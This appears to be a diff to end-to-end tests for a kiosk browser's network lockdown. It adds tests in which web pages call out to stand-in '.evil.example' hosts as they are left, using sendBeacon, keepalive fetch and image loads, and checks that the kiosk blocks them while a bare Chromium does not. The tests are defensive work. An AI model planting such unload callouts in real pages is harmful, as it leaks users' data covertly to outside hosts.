@@ -16,7 +16,7 @@ from typing import Any
 import pygame
 import pytest
 
-from kiosk.protocol import Scene
+from kiosk.protocol import Scene, Tap
 from tests.e2e.breakout.bare import bare_chromium
 from tests.e2e.breakout.conftest import RUNNER, START, TRAP_COLOUR, Breakout, settle, wait_until
 from tests.e2e.breakout.escapes import DOOR, STAYS
@@ -47,17 +47,24 @@ def serve_egress(trap: Trap, witness: Witness) -> tuple[str, dict[str, str]]:
     return f"<script>{EGRESS}; tryAll({witness.tls}, {witness.plain})</script>", headers
 
 
+def own_names(witness: Witness) -> set[str]:
+    """The hosts that were reached, by the names that the attempts gave them."""
+    return {name.removesuffix(".evil.example") for name in witness.by("sni", "http")}
+
+
 def test_control_from_a_bare_chromium_all_of_it_arrives(trap: Trap, witness: Witness) -> None:
     """Outside the kiosk the same page reaches the witness: so the witness sees, and the attempts are real."""
     body, headers = serve_egress(trap, witness)
     trap.pages[START] = page(body, **headers)
+    unseen = BY_ADDRESS | IN_DATAGRAMS | NOT_IN_A_CONTROL
     with bare_chromium(f"{trap.origin}{START}"):
         wait_until(lambda: "egress" in trap.told)
+        tried = json.loads(trap.told["egress"])
+        assert {name: said for name, said in tried.items() if said != "tried"} == {}
+        wait_until(lambda: set(tried) - unseen <= own_names(witness))
         arrived = witness.by("sni", "http", "udp")
-    tried = json.loads(trap.told["egress"])
-    assert {name: said for name, said in tried.items() if said != "tried"} == {}
-    names = {name.removesuffix(".evil.example") for name in arrived}
-    assert set(tried) - names == BY_ADDRESS | IN_DATAGRAMS | NOT_IN_A_CONTROL
+        names = own_names(witness)
+    assert set(tried) - names == unseen
     assert {"report", "link-header", "127.0.0.1", "[::ffff:7f00:1]"} <= names
     assert [data for data in arrived if data.startswith(STUN[:4]) and STUN[8:] in data]
     assert [data for data in arrived if data[:1] in tuple("cde")]  # QUIC's long header (RFC 9000)
@@ -71,6 +78,39 @@ def test_nothing_that_a_page_asks_for_reaches_anybody_but_its_own_site(breakout:
     settle(1)
     assert breakout.witness.seen == []
     assert [path for host, path in breakout.trap.asked if path.startswith("/ok/worker.js")]  # it did try
+
+
+UNLOAD = ("beacon", "keepalive", "image")
+
+
+def unloading(witness: Witness, then: str = "") -> str:
+    """A page that calls out as it is left, and tells its own site that it did."""
+    hosts = [f"https://{name}-on-unload.evil.example:{witness.tls}/" for name in UNLOAD]
+    return f"""<script>addEventListener('pagehide', () => {{
+        navigator.sendBeacon('{hosts[0]}', 'x');
+        fetch('{hosts[1]}', {{mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'}});
+        new Image().src = '{hosts[2]}';
+        navigator.sendBeacon('/ok/tell', JSON.stringify({{leaving: 'tried'}}));
+    }}); {then}</script>"""
+
+
+def test_control_a_bare_chromium_lets_a_page_call_out_as_it_is_left(trap: Trap, witness: Witness) -> None:
+    trap.told.clear()
+    trap.pages[START] = page(unloading(witness, "setTimeout(() => { location = '/ok/other' }, 300)"))
+    with bare_chromium(f"{trap.origin}{START}"):
+        wait_until(lambda: "leaving" in trap.told)
+        wait_until(lambda: witness.by("sni") >= {f"{name}-on-unload.evil.example" for name in UNLOAD[:2]})
+    witness.forget()
+
+
+def test_a_page_that_calls_out_as_it_is_left_reaches_nobody(breakout: Breakout) -> None:
+    breakout.trap.told.clear()
+    breakout.opens(unloading(breakout.witness))
+    breakout.kiosk.tap(Tap.HOME)
+    breakout.kiosk.until(Scene.HOME)
+    wait_until(lambda: "leaving" in breakout.trap.told)
+    settle(1)
+    assert breakout.witness.seen == []
 
 
 @pytest.mark.parametrize("name", DOOR)
@@ -245,7 +285,7 @@ def test_no_program_in_the_browsers_place_reaches_anybody(breakout: Breakout) ->
 def test_after_all_of_it_the_red_button_still_ends_everything_h3(breakout: Breakout) -> None:
     kiosk = breakout.kiosk
     breakout.opens("")
-    kiosk.control.ask("press", what="panic")
+    kiosk.hands.type("F12")  # the demonstration's red button, and nothing of Chromium's
     kiosk.until(Scene.PANIC, lambda view: view.panic is not None and view.panic.internet == "off")
     wait_until(lambda: not kiosk.browsers())
     assert breakout.share(TRAP_COLOUR, pygame.Rect(0, 0, 1280, 800)) == 0
